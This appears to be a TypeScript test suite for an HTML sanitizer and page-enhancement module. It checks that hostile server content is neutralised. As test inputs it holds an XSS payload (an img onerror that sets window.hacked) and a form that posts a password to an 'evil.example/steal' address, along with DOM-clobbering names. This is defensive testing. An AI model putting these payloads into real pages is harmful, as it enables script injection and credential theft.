import { expect, fixture, html as markup } from '@open-wc/testing'
import { html, pretendServer } from '../../tests/horizon-pages/server.js'
import { fakeTime } from '../../tests/horizon-pages/fake-time.js'
import { consoleGate, takeConsole } from '../../tests/support/expect-console.js'
import { waitUntil } from '../../tests/support/wait-until.js'
import type { StratusModal } from '../modal-stack/stratus-modal.js'
import { enhance, sanitizePage } from './index.js'

consoleGate()

const here = window as { hacked?: unknown }
let ends: Array<() => void> = []

/** An image that got in earlier has failed by the time that a later one has. */
const imageFailed = () =>
  new Promise((resolve) => {
    const image = new Image()
    image.addEventListener('error', resolve)
    image.src = import.meta.url
  })

describe('enhance: hostile servers', () => {
  afterEach(() => {
    for (const end of ends) end()
    ends = []
    for (const each of document.querySelectorAll('stratus-modal')) each.remove()
    delete here.hacked
  })

  it('names of resources are text everywhere', async () => {
    const evil = '&lt;img src=x onerror=&quot;window.hacked=1&quot;&gt;'
    const root = await fixture<HTMLElement>(markup`<div></div>`)
    root.append(
      sanitizePage(`<form action="/t/" method="POST"><table class="table datatable" id="t"><caption><div class="table_actions">
        <button type="submit" name="action" data-batch-action="true" class="btn btn-danger" value="t__delete" help_text="${evil}">Delete</button></div></caption>
        <thead><tr class="table_column_header"><th class="multi_select_column"></th><th class="sortable">Name</th></tr></thead><tbody>
        <tr id="t__row__1" data-object-id="1" data-display="${evil}"><td class="multi_select_column"><input type="checkbox" class="table-row-multi-select" name="object_ids" value="1"></td><td>${evil}</td></tr></tbody></table></form>`),
    )
    ends.push(enhance(root, { fetch: pretendServer().fetch }))
    root.querySelector<HTMLInputElement>('tbody input')!.click()
    root.querySelector<HTMLButtonElement>('button.btn-danger')!.click()
    await waitUntil(() => document.querySelector<StratusModal>('stratus-modal')?.open)
    const modal = document.querySelector<StratusModal>('stratus-modal')!
    expect(modal.textContent).to.contain('You have selected: "<img src=x onerror="window.hacked=1">".')
    expect(modal.querySelector('img')).to.equal(null)
    await imageFailed()
    expect(here.hacked).to.equal(undefined)
  })

  it('a form to another origin loses its form, and one that gets there by a script sends nothing', async () => {
    const root = await fixture<HTMLElement>(markup`<div></div>`)
    root.append(
      sanitizePage(
        '<form action="https://evil.example/steal" method="POST"><input name="password" type="password" aria-label="p"></form>',
      ),
    )
    expect(root.querySelector('form')).to.equal(null)
    expect(root.querySelector('input')).not.to.equal(null)
    const server = pretendServer({
      'GET /m/': html(
        '<div class="modal"><h3 class="modal-title">T</h3><form action="/ok/" method="POST"><div class="modal-footer"><input type="submit" value="Go"></div></form></div>',
      ),
    })
    const toasts: string[] = []
    const place = await fixture<HTMLElement>(markup`<div><a class="ajax-modal" href="/m/">x</a></div>`)
    ends.push(enhance(place, { fetch: server.fetch, toast: ({ text }) => void toasts.push(text) }))
    place.querySelector('a')!.click()
    await waitUntil(() => document.querySelector<StratusModal>('stratus-modal')?.open)
    const modal = document.querySelector<StratusModal>('stratus-modal')!
    modal.querySelector('form')!.setAttribute('action', '//evil.example/steal')
    await modal.updateComplete
    modal.requestSubmit()
    await waitUntil(() => toasts.length)
    expect(server.asked.map(({ method }) => method)).to.deep.equal(['GET'])
  })

  it('fields of real forms keep their names, those that would hide a method from scripts do not', () => {
    const names = (text: string) =>
      [...sanitizePage(text).querySelectorAll('[name]')].map((field) => field.getAttribute('name'))
    expect(
      names(
        '<form><input name="name"><input name="action"><input name="id"><input name="length"><select name="method"></select></form>',
      ),
    ).to.deep.equal(['name', 'action', 'id', 'length', 'method'])
    for (const clobber of [
      'submit',
      'querySelector',
      'getAttribute',
      'parentNode',
      'children',
      'attributes',
      'addEventListener',
      'isConnected',
    ]) {
      expect(names(`<form><input name="${clobber}"></form>`), clobber).to.deep.equal([])
    }
    expect(names('<img name="cookie"><form name="body"></form><img name="currentScript">')).to.deep.equal([])
  })

  it('links of a modal or row to other origins are not asked for', async () => {
    const server = pretendServer()
    const root = await fixture<HTMLElement>(markup`<div></div>`)
    root.append(
      sanitizePage('<a class="ajax-modal" href="https://evil.example/m">x</a><a class="ajax-modal" href="/own/">y</a>'),
    )
    ends.push(enhance(root, { fetch: server.fetch, toast: () => undefined }))
    for (const link of root.querySelectorAll('a')) link.click()
    await waitUntil(() => server.asked.length)
    expect(server.asked.map(({ path }) => path)).to.deep.equal(['/own/'])
  })

  it('attributes that name an address of elsewhere are never followed', async () => {
    const server = pretendServer()
    const elsewhere = 'https://evil.example/x'
    const root = await fixture<HTMLElement>(markup`<div></div>`)
    root.append(
      sanitizePage(`<div class="table_wrapper"><form action="/t/" method="POST"><table class="table datatable" id="t"><thead>
        <tr class="table_column_header"><th class="sortable">Name</th></tr></thead><tbody>
        <tr class="warning ajax-update" data-update-interval="1" data-update-url="${elsewhere}" id="t__row__1" data-object-id="1"><td class="warning">x</td></tr>
        </tbody></table></form></div>
        <div data-chart-type="line_chart" data-data="${elsewhere}"></div>
        <span id="networktopology" data-networktopology="${elsewhere}"></span>
        <form id="tail_length" action="${elsewhere}"><input name="length" aria-label="l"></form>
        <a class="btn btn-launch ajax-update ajax-modal" data-update-url="${elsewhere}" href="${elsewhere}">Launch</a>`),
    )
    const time = fakeTime()
    const visibility = { visible: true, subscribe: () => () => undefined }
    ends.push(enhance(root, { fetch: server.fetch, toast: () => undefined, clock: time.clock, visibility }))
    root.querySelector<HTMLElement>('a.btn-launch')!.click()
    await waitUntil(async () => {
      await time.advance(2500)
      return !root.querySelector('tr.ajax-update')
    })
    expect(server.asked).to.deep.equal([])
    expect(takeConsole()).to.deep.equal(['An error occurred while updating.'])
    expect(root.querySelector('stratus-topology, stratus-line-chart, stratus-console-log')).to.equal(null)
  })

  it('malformed fragments are no page: nothing throws, nothing is inserted that was not there', async () => {
    for (const bad of [
      '',
      '<',
      '</tr></table><tr',
      '<div class="modal"',
      '<!--',
      '<table><div class="modal"><tr>',
      '\0\0',
      '<div '.repeat(2000),
    ]) {
      const server = pretendServer({ 'GET /m/': html(bad) })
      const toasts: string[] = []
      const root = await fixture<HTMLElement>(markup`<div><a class="ajax-modal" href="/m/">x</a></div>`)
      ends.push(enhance(root, { fetch: server.fetch, toast: ({ text }) => void toasts.push(text) }))
      root.querySelector('a')!.click()
      await waitUntil(() => !root.querySelector('a')!.hasAttribute('aria-busy'))
      const opened = [...document.querySelectorAll('stratus-modal')]
      expect(toasts.length + opened.length, bad.slice(0, 40)).to.equal(1)
      for (const modal of opened) modal.remove()
    }
  })
})
